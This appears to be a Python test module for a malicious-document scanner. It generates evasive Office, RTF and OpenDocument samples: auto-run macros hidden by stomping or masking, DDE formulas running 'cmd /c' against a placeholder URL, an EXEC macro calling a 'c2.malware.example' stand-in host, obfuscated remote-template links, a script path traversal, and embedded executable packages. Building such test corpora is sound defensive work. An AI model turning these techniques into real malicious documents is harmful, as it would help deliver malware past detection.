"""Documents that are written as no program writes them, and that Office opens all the same (catalogue B42 to B45)."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
from uuid import UUID

from office_maker import (
    AUTO,
    HOST,
    OBJECT,
    PROGRAM,
    URL,
    Cases,
    active_mime,
    native,
    ole1,
    ole_vba,
    package,
    relation,
    rtf,
    rtf_object,
    word,
)
from ole_maker import biff, compiled, compound, directory, macro_book, packed, string_token, vba

_BOOK = "<workbook/>"


def _saved_page(head: str) -> str:
    data = base64.encodebytes(active_mime(ole_vba(AUTO))).decode()
    return (
        f'{head}MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html\n\n'
        "<html>x</html>\n--b\nContent-Location: file:///C:/editdata.mso\nContent-Transfer-Encoding: base64\n"
        f"Content-Type: application/x-mso\n\n{data}\n--b--\n"
    )


def _opendocument(members: dict[str, str | bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in {"mimetype": "application/vnd.oasis.opendocument.text", **members}.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return file.getvalue()


def oddities() -> Cases:
    """The cases."""
    cases = Cases()
    _macros(cases)
    _workbooks(cases)
    _references(cases)
    _objects(cases)
    return cases


def _macros(cases: Cases) -> None:
    auto = "office-auto-macro"
    cases.put("B42 saved page without a sender", "a.doc", _saved_page(""), auto)
    cases.put("B42 saved page behind other lines", "a.doc", _saved_page("\n\n"), auto)
    flat = (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        f"<pkg:binaryData>{base64.b64encode(ole_vba(AUTO)).decode()}</pkg:binaryData></pkg:package>"
    )
    cases.put("B42 flat package", "a.xml", flat, auto)
    zeroed = {**vba({"Module1": AUTO}, compiled=compiled(URL)), "VBA/Module1": compiled(URL) + bytes(300)}
    cases.put("B42 source wiped out", "a.doc", compound(zeroed), "office-macro-stomped", "malformed")
    renamed = directory({"Module1": 0}).replace(b"\x1a\0\x07\0\0\0Module1", b"\x1a\0\x07\0\0\0Zzzzzz1")
    cases.put(
        "B42 stream by its wide name", "a.doc", compound({**vba({"Module1": AUTO}), "VBA/dir": packed(renamed)}), auto
    )
    offset = packed(directory({"Module1": 7777}))
    cases.put("B42 wrong offset", "a.doc", compound({**vba({"Module1": AUTO}), "VBA/dir": offset}), auto)
    small = packed(b'attribute vb_name = "Module1"\r\n' + AUTO.encode())
    cases.put("B42 small letters", "a.doc", compound({**vba({"Module1": AUTO}), "VBA/Module1": small}), auto)
    cases.put(
        "B42 module that runs by its name",
        "a.doc",
        compound(vba({"AutoExec": f'Sub Main()\r\nx = "{URL}"\r\nEnd Sub'})),
        auto,
    )
    cases.put("B42 continued procedure", "a.doc", ole_vba(f'Sub _\r\n AutoOpen()\r\nx = "{URL}"\r\nEnd Sub'), auto)
    numbers = ", ".join(str(ord(letter) ^ 7) for letter in URL)
    cases.put("B42 masked numbers", "a.doc", ole_vba(f"Sub AutoOpen()\r\na = Array({numbers})\r\nEnd Sub"), auto)
    added = "".join(chr(ord(letter) + 3) for letter in URL)
    cases.put("B42 shifted letters", "a.doc", ole_vba(f'Sub AutoOpen()\r\na = D("{added}")\r\nEnd Sub'), auto)
    basic = f'<script:module script:name="M">Shell(&quot;cmd &quot; &amp; &quot;{URL}&quot;)</script:module>'
    listener = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.Main"/>'
    opened = _opendocument({"content.xml": f"<x>{listener}</x>", "Basic/Standard/M.xml": basic})
    cases.put("B42 OpenDocument", "a.odt", opened, f"{auto} office-macro office-macro-suspicious")
    outside = "vnd.sun.star.script:../../../program/pydoc.py$tempfilepager(1, x)?language=Python&amp;location=share"
    moved = f'<script:event-listener script:event-name="dom:mouseover" xlink:href="{outside}"/>'
    cases.put(
        "B42 script outside of the document",
        "a.odt",
        _opendocument({"content.xml": moved}),
        "office-exploit",
        host=False,
    )


def _workbooks(cases: Cases) -> None:
    formula = f"<worksheet><c r=\"A1\"><f>cmd|'/c {URL}'!A0</f></c></worksheet>"
    cases.put(
        "B43 DDE in a formula",
        "a.xlsx",
        package({"xl/workbook.xml": _BOOK, "xl/worksheets/s.xml": formula}),
        "office-dde",
    )
    fetched = f'<worksheet><c r="A1"><f>WEBSERVICE("{URL}")</f></c></worksheet>'
    cases.put(
        "B43 function that fetches",
        "a.xlsx",
        package({"xl/workbook.xml": _BOOK, "xl/worksheets/s.xml": fetched}),
        "office-query",
    )
    linked = '<worksheet><c r="A1"><f>HYPERLINK("http://c2."&amp;"malware.example/gate")</f></c></worksheet>'
    cases.put(
        "B43 link that is put together", "a.xlsx", package({"xl/workbook.xml": _BOOK, "xl/worksheets/s.xml": linked})
    )
    link = b"cmd\3/c " + URL.encode()
    old = biff(0x809, struct.pack("<HHHH", 0x500, 5, 0, 0)) + biff(0x17, bytes([len(link)]) + link)
    cases.put("B43 DDE in Excel 5", "a.xls", compound({"Book": old}), "office-dde")
    run = string_token(URL) + b"\x42\x01\x6e\x00"
    inside = {"word/embeddings/x.xls": compound({"Workbook": macro_book(b"\x01", run)})}
    cases.put("B43 workbook in a document", "a.docx", word(**inside), "office-auto-macro")
    cells = '<c r="B1" t="str"><v>http://c2.malware</v></c><c r="B2" t="str"><v>.example/gate</v></c>'
    cells = f"<worksheet>{cells}</worksheet>"
    macro = '<xm:macrosheet xmlns:xm="x"><c r="A1"><f>EXEC(Data!$B$1&amp;Data!B2)</f></c></xm:macrosheet>'
    parts = {"xl/workbook.xml": _BOOK, "xl/worksheets/s.xml": cells, "xl/macrosheets/m.xml": macro}
    cases.put("B43 strings of another sheet", "a.xlsm", package(parts), "office-macro office-macro-suspicious")
    wide = f"a\t=cmd|'/c {URL}'!A0".encode("utf-16")
    cases.put("B43 DDE in wide text", "a.csv", wide, "office-dde")
    inner = f'<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c {URL}&quot;;&quot;a&quot;)"/>'
    cases.put("B43 DDE in OpenDocument", "a.ods", _opendocument({"content.xml": inner}), "office-dde")


def _references(cases: Cases) -> None:
    plain = relation("attachedTemplate", URL)
    written = {
        "prefix": plain.replace("<Rel", "<p:Rel"), "single quotation marks": plain.replace('"', "'"),
        "comment in a tag": plain.replace("Target=", "<!-- > -->Target="),
        "sign in a target": plain.replace("gate", "gate?a>b"),
        "UTF-7": ('<?xml version="1.0" encoding="utf-7"?>' + plain).encode("utf-7"),
        "UTF-16 without a mark": ('<?xml version="1.0" encoding="UTF-16"?>' + plain).encode("utf-16-be"),
        "strict": plain.replace("schemas.openxmlformats.org/officeDocument/2006", "purl.oclc.org/ooxml/officeDocument"),
    }  # fmt: skip
    for title, source in written.items():
        cases.put(f"B44 relation: {title}", "a.docx", word(rels=source), "office-remote-template")
    cases.put("B44 relations under another name", "a.docx", word(**{"word/x.dat": plain}), "office-remote-template")
    cases.put(
        "B44 relations with backslashes",
        "a.docx",
        package({"word\\_rels\\s.xml.rels": plain}),
        "office-remote-template",
    )
    old = (
        "<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument "
        "xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'>"
        f"<w:attachedTemplate w:val='{URL}'/></w:wordDocument>"
    )
    cases.put("B44 template of Word 2003", "a.xml", old, "office-remote-template")
    picture = f'<draw:image xlink:href="file://{HOST}/x.jpg"/>'
    moniker = bytes(24) + UUID("06290bd3-48aa-11d2-8432-006008c3fbfc").bytes_le + URL.encode("utf-16-le")
    cases.put("B44 moniker of a script", "a.doc", compound({"ObjectPool/_1/\x01Ole": moniker}), "office-risky-object")
    cases.put("B44 picture on a share", "a.odt", _opendocument({"content.xml": picture}), "office-remote-image")
    nested = {"content.xml": "<x/>", "Object 1": compound({"\x01Ole10Native": native("update.exe", PROGRAM)})}
    cases.put("B44 package in OpenDocument", "a.odt", _opendocument(nested), "office-package executable", host=False)


def _objects(cases: Cases) -> None:
    written = {
        "group that is passed over": rtf_object(OBJECT[:100] + r"{\*\foo abcdef}" + OBJECT[100:]),
        "no asterisk": rtf(rf"{{\object\objemb{{\objdata {OBJECT}}}}}"), "no group": rf"{{\rtf1\objdata {OBJECT}",
        "odd version": rtf_object(f"deadbeef{OBJECT[8:]}"),
        "two": rtf(rf"{{\object{{\*\objdata 0105}}}}{{\object{{\*\objdata {OBJECT}}}}}"),
        "long class": rtf_object(ole1(b"Package" + b"A" * 100, native("update.exe", PROGRAM)[4:]).hex()),
    }  # fmt: skip
    for title, source in written.items():
        cases.put(f"B45 object: {title}", "a.doc", source, "executable", host=False)
    named = rf"{{\object\objemb{{\*\objclass Equation.3}}{{\*\objdata {ole1(b'', bytes(50)).hex()}}}}}"
    cases.put("B45 class outside of the data", "a.rtf", rtf(named), "office-equation", host=False)
    cases.put(
        "B45 picture field", "a.rtf", rtf(rf'{{\field{{\*\fldinst INCLUDEPICTURE "{URL}"}}}}'), "office-remote-image"
    )
